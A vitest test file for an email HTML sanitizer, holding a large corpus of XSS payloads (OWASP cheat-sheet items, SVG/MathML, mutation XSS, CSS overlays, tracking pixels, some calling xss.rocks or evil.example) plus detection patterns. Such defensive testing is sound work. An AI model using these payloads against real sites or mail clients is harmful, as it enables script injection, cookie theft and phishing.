import fc from "fast-check";
import { parseFragment } from "parse5";
import PostalMime from "postal-mime";
import { describe, expect, it } from "vitest";
import { sanitizeEmailHtml, type SanitizeOptions } from "../../workers/core/mail/html-sanitizer";
import { emailCorpus } from "../helpers/corpus";
import { decodeFully } from "../helpers/html-entities";

const INLINE = new Set(["logo@mail.example", "chart.png@01D9"]);
const options: SanitizeOptions = {
  cidUrl: (id) => (INLINE.has(id) ? `/api/v1/attachments/inline/${encodeURIComponent(id)}` : null),
};
const clean = (html: string) => sanitizeEmailHtml(html, options).html;

// ---------------------------------------------------------------------------------------------
// Independent checks on the output (written for this test, not shared with the implementation)

const ALLOWED_ELEMENTS = new Set(
  (
    "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del " +
    "details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark " +
    "nav ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var wbr"
  ).split(" "),
);
const VOID = new Set(["br", "hr", "img", "col", "wbr"]);


interface Tag {
  closing: boolean;
  name: string;
  attributes: [string, string | null][];
}

/** Our output is canonical: <name a="v" b> and </name>; anything else is a failure. */
function parseOutput(html: string): { tags: Tag[]; text: string } {
  const tags: Tag[] = [];
  let text = "";
  let rest = html;
  const tagPattern = /^<(\/?)([a-z0-9]+)((?:\s[a-z-]+(?:="[^"<>]*")?)*)>/;
  while (rest.length > 0) {
    const lt = rest.indexOf("<");
    if (lt === -1) {
      text += rest;
      break;
    }
    text += rest.slice(0, lt);
    rest = rest.slice(lt);
    const match = tagPattern.exec(rest);
    if (!match) throw new Error(`not a canonical tag at: ${rest.slice(0, 80)}`);
    const attributes = [...match[3]!.matchAll(/\s([a-z-]+)(?:="([^"]*)")?/g)].map((m) => [m[1]!, m[2] ?? null] as [string, string | null]);
    tags.push({ closing: match[1] === "/", name: match[2]!, attributes });
    rest = rest.slice(match[0].length);
  }
  return { tags, text };
}

function assertSafe(output: string, corpus = false) {
  expect(output).not.toMatch(/<\s*\/?\s*(?:script|iframe|style|svg|math|object|embed|form|input|meta|base|link|frame|frameset|textarea|noscript|template|xmp|button|select)\b/i);
  const { tags, text } = parseOutput(output);
  expect(text).not.toMatch(/[<>]/);
  const stack: string[] = [];
  for (const tag of tags) {
    expect(ALLOWED_ELEMENTS.has(tag.name), `element <${tag.name}>`).toBe(true);
    if (tag.closing) {
      expect(stack.pop(), `balanced </${tag.name}>`).toBe(tag.name);
      continue;
    }
    if (!VOID.has(tag.name)) stack.push(tag.name);
    const names = tag.attributes.map(([name]) => name);
    expect(new Set(names).size, "no duplicate attributes").toBe(names.length);
    for (const [name, value] of tag.attributes) {
      expect(name, "event handler attribute").not.toMatch(/^on/i);
      expect(["srcset", "background", "formaction", "action", "xlink", "poster", "lowsrc", "dynsrc"]).not.toContain(name);
      const decoded = decodeFully(value ?? "").replace(/[\u0000-\u0020]/g, "");
      if (["href", "src", "data-remote-src", "style"].includes(name)) {
        expect(decoded).not.toMatch(/javascript:|vbscript:|livescript:|data:text|data:image\/svg|expression\(|url\(|-moz-binding|behavior|@import/i);
      }
      if (name === "href") expect(decoded).toMatch(/^(?:https?:|mailto:|tel:)/i);
      if (name === "src") expect(decoded).toMatch(/^(?:\/api\/v1\/attachments\/inline\/|data:image\/(?:png|jpeg|jpg|gif|webp);)/i);
      if (name === "style") {
        expect(decoded).not.toMatch(/position|z-index|\btop:|\bleft:|\bright:|\bbottom:|transform/i);
      }
    }
  }
  expect(stack, "every element closed").toEqual([]);
  if (!corpus) return;
  // Plain string checks on the whole output (the vectors carry no such text outside their markup).
  const decoded = decodeFully(output);
  expect(decoded).not.toMatch(/j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t\s*:/i);
  expect(decoded).not.toMatch(/position\s*:\s*(?:fixed|absolute|sticky)/i);
  for (const tag of output.match(/<[^>]*>/g) ?? []) expect(tag.replace(/"[^"]*"/g, '""')).not.toMatch(/\son\w+\s*=/i);
}

// ---------------------------------------------------------------------------------------------
// XSS corpus: OWASP filter-evasion cheat sheet items, SVG/MathML, mutation XSS, CSS, tracking

const XSS_CORPUS: string[] = [
  `<script>alert('XSS')</script>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `\\";alert('XSS');//`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<a href="&#x6A;avascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
  `<a href="java&Tab;script:alert(1)">x</a>`,
  `<a href="java&NewLine;script&colon;alert(1)">x</a>`,
  `<a href="java&#x09;script:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="  javascript:alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="javas\u0000cript:alert(1)">x</a>`,
  `<a href="javascript&#58alert(1)">x</a>`,
  `<a href="javascript&#0000058alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="#" onclick="javascript:alert(1)">x</a>`,
  `<a/href="javascript:alert(1)">x</a>`,
  `<a href="https://ok.example/" onclick="alert(1)" target="_self">ok</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<img/src/onerror=alert(1)>`,
  `<img """ onerror=alert(1)>`,
  `<div onmouseover\n=\nalert(1)>x</div>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  // SVG and MathML
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert(1)">CLICKME</math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">CLICK</maction></math>`,
  // Mutation XSS
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<style><!--</style><script>alert(1)//--></script>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
  `<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>`,
  // Other script carriers
  `<object data="javascript:alert(1)">`,
  `<embed src="javascript:alert(1)">`,
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<isindex action=javascript:alert(1) type=image>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<video><source onerror="alert(1)"></video>`,
  `<video poster="javascript:alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<body onpageshow=alert(1)>`,
  `<base href="https://evil.example/">`,
  `<link rel=import href="https://evil.example/x.html">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  // CSS tricks and overlays
  `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:#fff">Your session expired. <a href="https://phish.example/login">Log in</a></div>`,
  `<div style="position: absolute; left: -9999px">hidden</div>`,
  `<div style="pos&#x69;tion:fixed">x</div>`,
  `<div style="position&colon;fixed">x</div>`,
  `<div style="position/**/:fixed">x</div>`,
  `<div style="POSITION: FIXED; Z-INDEX: 10">x</div>`,
  `<div style="position:sticky;top:0">x</div>`,
  `<div style="color:red;position:\\66ixed">x</div>`,
  `<div style="background:url(http://tracker.example/p.gif)">x</div>`,
  `<div style="background-image:u\\rl(http://x)">x</div>`,
  `<div style="background: URL( 'http://x' )">x</div>`,
  `<div style="background-image: image-set('http://x' 1x)">x</div>`,
  `<div style="-moz-binding:url(http://x#xss)">x</div>`,
  `<div style="behavior:url(x.htc)">x</div>`,
  `<div style="width:expression(alert(1))">x</div>`,
  `<div style="color:red;}</style><script>alert(1)</script>">x</div>`,
  `<div style="@import 'http://x/a.css'; color: red">x</div>`,
  `<a href="https://example.com" style="display:block;position:fixed;top:0;left:0;width:100%;height:100%">overlay link</a>`,
  // Remote loads and tracking
  `<img src="http://tracker.example/open.gif?u=123" width="1" height="1" style="display:none">`,
  `<img srcset="http://tracker.example/a.png 1x">`,
  `<table background="http://tracker.example/bg.png"><tr><td>x</td></tr></table>`,
];

describe("sanitizeEmailHtml: XSS corpus", () => {
  it("has a corpus of at least 40 vectors", () => {
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(XSS_CORPUS.map((vector, i) => [i, vector] as const))("vector %i is harmless: %s", (_i, vector) => {
    const output = clean(vector);
    assertSafe(output, true);
    expect(clean(output)).toBe(output);
  });
});

describe("sanitizeEmailHtml: elements", () => {
  it("keeps ordinary email formatting", () => {
    const html =
      `<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff">` +
      `<tr><td colspan="2" valign="top" style="padding: 8px; font-family: Arial, sans-serif">` +
      `<h1>Order <em>shipped</em></h1><p>Hello&nbsp;Li,<br>your <strong>order</strong> &amp; invoice.</p>` +
      `<ul><li>One</li><li>Two</li></ul><blockquote>quoted</blockquote><pre><code>x &lt; y</code></pre>` +
      `<font face="Arial" color="#333333" size="2">small print</font><center>c</center><hr></td></tr></table>`;
    expect(clean(html)).toBe(html);
  });

  it("removes script, iframe, object, embed, form, input, svg, style, meta refresh, base and link", () => {
    const output = clean(
      `<p>a</p><script>alert(1)</script><iframe src="https://x"></iframe><object data="x"></object><embed src="x">` +
        `<form action="https://x"><input name="q"></form><svg><script>alert(2)</script></svg><style>p{color:red}</style>` +
        `<meta http-equiv="refresh" content="0;url=https://x"><base href="https://x/"><link rel="stylesheet" href="https://x"><p>b</p>`,
    );
    expect(output).toBe("<p>a</p><p>b</p>");
  });

  it("keeps the text of unknown elements (Office namespaces, wrappers)", () => {
    expect(clean(`<html><head><title>t</title></head><body bgcolor="#fff"><p class="MsoNormal">Hi<o:p></o:p></p></body></html>`)).toBe(
      `<p class="MsoNormal">Hi</p>`,
    );
  });

  it("removes every on* handler", () => {
    expect(clean(`<div onclick="x()" OnMouseOver='y()' onfocus=z>t</div>`)).toBe("<div>t</div>");
  });

  it("treats a lone < as text", () => {
    expect(clean("a < b, c <= d, 1<2")).toBe("a &lt; b, c &lt;= d, 1&lt;2");
  });

  it("drops an unterminated script to the end, as a browser would", () => {
    expect(clean("<p>ok</p><script>alert(1)")).toBe("<p>ok</p>");
  });

  it("balances the markup", () => {
    expect(clean("<div><p>a<p>b<ul><li>1<li>2</ul><table><tr><td>x<td>y<tr><td>z</table>")).toBe(
      "<div><p>a</p><p>b</p><ul><li>1</li><li>2</li></ul><table><tr><td>x</td><td>y</td></tr><tr><td>z</td></tr></table></div>",
    );
    expect(clean("</div></p>text</b><b>bold")).toBe("text<b>bold</b>");
  });
});

describe("sanitizeEmailHtml: links", () => {
  it("keeps http(s), mailto and tel links and opens them safely", () => {
    for (const href of ["https://example.com/a?b=1&c=2", "http://example.com", "mailto:li@example.com", "tel:+861012345678"]) {
      const output = clean(`<a href="${href.replace(/&/g, "&amp;")}">x</a>`);
      expect(output).toBe(`<a href="${href.replace(/&/g, "&amp;")}" rel="noopener noreferrer nofollow" target="_blank">x</a>`);
    }
  });

  it("replaces rel and target the sender set", () => {
    expect(clean(`<a target="_top" rel="opener" href="https://example.com">x</a>`)).toBe(
      `<a href="https://example.com" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
    );
  });

  it("drops other schemes and relative links but keeps the link text", () => {
    for (const href of ["javascript:alert(1)", "ftp://x", "file:///etc/passwd", "/relative", "#top", "data:text/html,x", "cid:x"]) {
      expect(clean(`<a href="${href}">x</a>`)).toBe("<a>x</a>");
    }
  });
});

describe("sanitizeEmailHtml: images", () => {
  it("does not load remote images and counts them", () => {
    const result = sanitizeEmailHtml(
      `<img src="https://cdn.example/logo.png" alt="Logo"><img src="http://t.example/o.gif?id=1&amp;u=2" width="1" height="1"><img src="//cdn.example/x.png">`,
      options,
    );
    expect(result.html).toBe(
      `<img alt="Logo" data-remote-src="https://cdn.example/logo.png"><img width="1" height="1" data-remote-src="http://t.example/o.gif?id=1&amp;u=2"><img data-remote-src="//cdn.example/x.png">`,
    );
    expect(result.blockedRemoteImages).toBe(3);
  });

  it("rewrites cid: images through options.cidUrl and drops unknown ones", () => {
    const result = sanitizeEmailHtml(`<img src="cid:logo@mail.example" alt="l"><img src="CID:%3Cchart.png@01D9%3E"><img src="cid:missing@x">`, options);
    expect(result.html).toBe(
      `<img alt="l" src="/api/v1/attachments/inline/logo%40mail.example" data-cid="logo@mail.example">` +
        `<img src="/api/v1/attachments/inline/chart.png%4001D9" data-cid="chart.png@01D9"><img>`,
    );
    expect(result.blockedRemoteImages).toBe(0);
  });

  it("keeps embedded raster images only", () => {
    const png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    expect(clean(`<img src="${png}">`)).toBe(`<img src="${png}">`);
    expect(clean(`<img src="data:image/svg+xml;base64,PHN2Zz4=">`)).toBe("<img>");
    expect(clean(`<img src="data:text/html;base64,PHN2Zz4=">`)).toBe("<img>");
    expect(clean(`<a href="${png}">x</a>`)).toBe("<a>x</a>");
  });
});

describe("sanitizeEmailHtml: inline styles", () => {
  it("keeps harmless properties in a canonical form", () => {
    expect(clean(`<p style="COLOR:#333;Font-Family:'Segoe UI',Arial;font-size:14px;margin:0 0 8px;text-align:center;border:1px solid rgb(1,2,3)">x</p>`)).toBe(
      `<p style="color: #333; font-family: 'Segoe UI',Arial; font-size: 14px; margin: 0 0 8px; text-align: center; border: 1px solid rgb(1,2,3)">x</p>`,
    );
  });

  it("drops position, offsets, z-index, url(), expression(), behavior, -moz-binding, @import and escapes", () => {
    const output = clean(
      `<div style="position:fixed; top:0; z-index:99; background:url(http://x/p.gif); width:expression(alert(1)); behavior:url(a.htc); -moz-binding:url(b.xml#x); color:\\72 ed; @import 'x.css'; color: blue">x</div>`,
    );
    expect(output).toBe(`<div style="color: blue">x</div>`);
  });

  it("makes a full-page overlay harmless", () => {
    const output = clean(
      `<div style="position:fixed;top:0;left:0;right:0;bottom:0;width:100%;height:100%;z-index:2147483647;background-color:#fff">` +
        `<a href="https://phish.example/">Sign in again</a></div><p>Real message</p>`,
    );
    expect(output).toBe(
      `<div style="width: 100%; height: 100%; background-color: #fff"><a href="https://phish.example/" rel="noopener noreferrer nofollow" target="_blank">Sign in again</a></div><p>Real message</p>`,
    );
  });

  it("drops negative margins (content pulled over other content)", () => {
    expect(clean(`<div style="margin-top:-500px;margin-left:10px">x</div>`)).toBe(`<div style="margin-left: 10px">x</div>`);
  });
});

describe("sanitizeEmailHtml: attribute values", () => {
  it("decodes and re-encodes values so the browser sees what was checked", () => {
    expect(clean(`<p title='say "hi" &amp; &lt;bye&gt; &eacute;'>x</p>`)).toBe(`<p title="say &quot;hi&quot; &amp; &lt;bye&gt; é">x</p>`);
  });

  it("keeps ids and classes that quoted-history detection needs", () => {
    const html = `<div id="divRplyFwdMsg" dir="ltr"><blockquote type="cite" class="gmail_quote">x</blockquote></div>`;
    expect(clean(html)).toBe(html);
  });

  it("keeps the first of duplicate attributes", () => {
    expect(clean(`<a href="https://a.example" href="javascript:alert(1)">x</a>`)).toBe(
      `<a href="https://a.example" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
    );
  });
});

// Each of these was read wrong by the hand-written tokenizer (js-xss and a tag stack) this module had
// before the HTML5 parser (html-tree.ts); each expectation is what a browser builds from the input.
describe("sanitizeEmailHtml: read as a browser reads it", () => {
  it("misnested formatting keeps its formatting where a browser shows it (the adoption agency algorithm)", () => {
    expect(clean("<b>bold <i>both</b> italic</i>")).toBe("<b>bold <i>both</i></b><i> italic</i>");
    expect(clean("<p>a<b>b</p>c</b>")).toBe("<p>a<b>b</b></p><b>c</b>");
    expect(clean(`<font color=red>a<p>b</font>c</p>`)).toBe(`<font color="red">a</font><p><font color="red">b</font>c</p>`);
  });

  it("any heading's end tag closes the open heading", () => {
    expect(clean("<h1>a<h2>b</h1>c")).toBe("<h1>a</h1><h2>b</h2>c");
  });

  it("a '<' inside an unquoted attribute value, or a stray '<b' among the attributes, opens no tag", () => {
    expect(clean("<img alt=a<b src=x>z")).toBe(`<img alt="a&lt;b">z`);
    expect(clean(`<p>x</p><div class="a" <b>y</b>`)).toBe(`<p>x</p><div class="a">y</div>`);
  });

  it("<script> inside an unquoted attribute value is part of the value, not a script (and the text after it stays)", () => {
    expect(clean("<p title=<script>alert(1)</script>>y</p>")).toBe(`<p title="&lt;script">alert(1)&gt;y</p>`);
    expect(clean(`<p title="a" <script>alert(1)</script>>z</p>`)).toBe(`<p title="a">alert(1)&gt;z</p>`);
  });

  it("'<!--' inside an attribute value starts no comment; '--!>' ends one", () => {
    expect(clean(`<p data-x="<!--">a</p><p>b --></p>c`)).toBe("<p>a</p><p>b --&gt;</p>c");
    expect(clean("<p>x<!--a--!>b</p>")).toBe("<p>xb</p>");
  });

  it("keeps a newline that starts a <pre>'s content (the parser drops one right after the start tag)", () => {
    expect(clean("<pre><!-- c -->\nline</pre>")).toBe("<pre>\n\nline</pre>");
    expect(clean(clean("<pre><!-- c -->\nline</pre>"))).toBe("<pre>\n\nline</pre>");
  });

  it("a nesting the tree holds but its tags would not say is written as it reads back (content fostered out of a table, a stopping element unwrapped)", () => {
    // The parser fosters the <dt> out of the table into the <dd>; a written <dt> closes the <dd>.
    expect(clean("<dd><table><dt>x")).toBe("<dd></dd><dt>x</dt><table></table>");
    expect(clean("<h1>a<table><h2>b")).toBe("<h1>a</h1><h2>b</h2><table></table>");
    // A <form>, <button> or <label> kept the second tag from closing the first; they are not kept.
    expect(clean("<li><form><li>x")).toBe("<li></li><li>x</li>");
    expect(clean("<p><button><div>x")).toBe("<p></p><div>x</div>");
    expect(clean("<h1><label><h2>x")).toBe("<h1></h1><h2>x</h2>");
  });

  it("a carriage return from a reference stays one (a written one reads back as a line feed)", () => {
    expect(clean(`a&#13;b<p title="x&#xD;y">c</p>`)).toBe(`a&#13;b<p title="x&#13;y">c</p>`);
  });

  it("spells every character reference canonically (with ';', numeric ones as characters), so later readers decode it", () => {
    expect(clean("<p>AT&amp;T &amp Fish&nbspChips &lt3 &#150; &#x80; &check;</p>")).toBe("<p>AT&amp;T &amp; Fish&nbsp;Chips &lt;3 – € ✓</p>");
  });
});

describe("sanitizeEmailHtml: the shared email corpus", () => {
  it("sanitises every HTML body safely and idempotently, keeping its text", async () => {
    let htmlBodies = 0;
    for (const message of emailCorpus()) {
      const parsed = await PostalMime.parse(message.raw);
      if (!parsed.html) continue;
      htmlBodies++;
      const once = sanitizeEmailHtml(parsed.html, options);
      assertSafe(once.html);
      expect(sanitizeEmailHtml(once.html, options), message.id).toEqual(once);
      // Visible words survive (scripts and styles aside, which the corpus bodies do not rely on).
      const words = (html: string) => decodeFully(html.replace(/<(script|style|title)[^>]*>[\s\S]*?<\/\1>/gi, "").replace(/<[^>]*>/g, " ")).split(/\s+/).filter((w) => /^[\p{L}\p{N}]{4,}$/u.test(w));
      const kept = new Set(words(once.html));
      const lost = words(parsed.html).filter((w) => !kept.has(w));
      expect(lost, message.id).toEqual([]);
    }
    expect(htmlBodies).toBeGreaterThan(5);
  });
});

// ---------------------------------------------------------------------------------------------
// Properties

const attributeName = fc.constantFrom(
  "href", "src", "style", "onclick", "onerror", "title", "alt", "class", "id", "width", "data-cid", "data-remote-src",
  "type", "color", "align", "xlink:href", "formaction", "srcset", "target", "rel", "nowrap", "data-kefu-quoted",
);
const attributeValue = fc.oneof(
  fc.constantFrom(
    "javascript:alert(1)", "java&#x09;script:alert(1)", "JaVa&Tab;ScRiPt&colon;x", " https://ok.example/a?b=1&amp;c=2",
    "http://t.example/p.gif", "cid:logo@mail.example", "cid:nope", "data:image/png;base64,AAAA", "data:text/html,x",
    "mailto:a@b", "position:fixed;top:0;color:red", "color:red;background:url(x)", "font-family:'A B'", "x&quot;y",
    "&lt;script&gt;", "&amp;amp;", "&unknown;", "&notin;x", "a'b", "100%", "cite", "true", "&#0;", "&#x110000;",
  ),
  fc.string({ maxLength: 12 }),
);
const quoted = fc.tuple(attributeName, attributeValue, fc.constantFrom('"', "'", "")).map(([name, value, q]) =>
  q === "" ? ` ${name}=${value.replace(/[\s>]/g, "")}` : ` ${name}=${q}${value.split(q).join("")}${q}`,
);
const tagName = fc.constantFrom(
  "a", "img", "div", "p", "span", "table", "tr", "td", "th", "tbody", "li", "ul", "ol", "b", "i", "font", "blockquote", "br",
  "hr", "h1", "h2", "dd", "dt", "dl", "pre", "script", "style", "svg", "math", "iframe", "noscript", "textarea", "title",
  "xmp", "object", "select", "template", "o:p", "body", "html", "SCRIPT", "Div",
  // Elements the walk unwraps although the parser let them stop an end or a closing start tag.
  "form", "button", "marquee", "label", "nobr", "fieldset", "caption", "section", "h3", "x-y",
);
const htmlPiece = fc.oneof(
  fc.tuple(tagName, fc.array(quoted, { maxLength: 4 }), fc.constantFrom(">", "/>", " >")).map(([t, a, end]) => `<${t}${a.join("")}${end}`),
  tagName.map((t) => `</${t}>`),
  fc.string({ maxLength: 10 }),
  fc.constantFrom("<", ">", "&", "&amp;", "&lt;", "<!--", "-->", "<!-- c -->", "\"", "'", "=", "`", "</", "<!DOCTYPE html>", "&nbsp;", "\u0000", "\n", "\r", "&#13;"),
);
const hostileHtml = fc.array(htmlPiece, { maxLength: 30 }).map((pieces) => pieces.join(""));

describe("sanitizeEmailHtml: properties", () => {
  it("is idempotent and safe on generated hostile fragments", () => {
    fc.assert(
      fc.property(hostileHtml, (html) => {
        const once = sanitizeEmailHtml(html, options);
        assertSafe(once.html);
        const twice = sanitizeEmailHtml(once.html, options);
        expect(twice.html).toBe(once.html);
        expect(twice.blockedRemoteImages).toBe(once.blockedRemoteImages);
      }),
      { numRuns: 1500 },
    );
  });

  it("keeps plain text: a browser shows the same characters for the output as for the input", () => {
    const shown = (html: string) => parseFragment(html).childNodes.map((node) => ("value" in node ? node.value : "")).join("");
    fc.assert(
      fc.property(fc.string({ maxLength: 80 }).filter((s) => !/[<\u0000]/.test(s)), (text) => {
        expect(shown(clean(text))).toBe(shown(text));
      }),
    );
  });
});
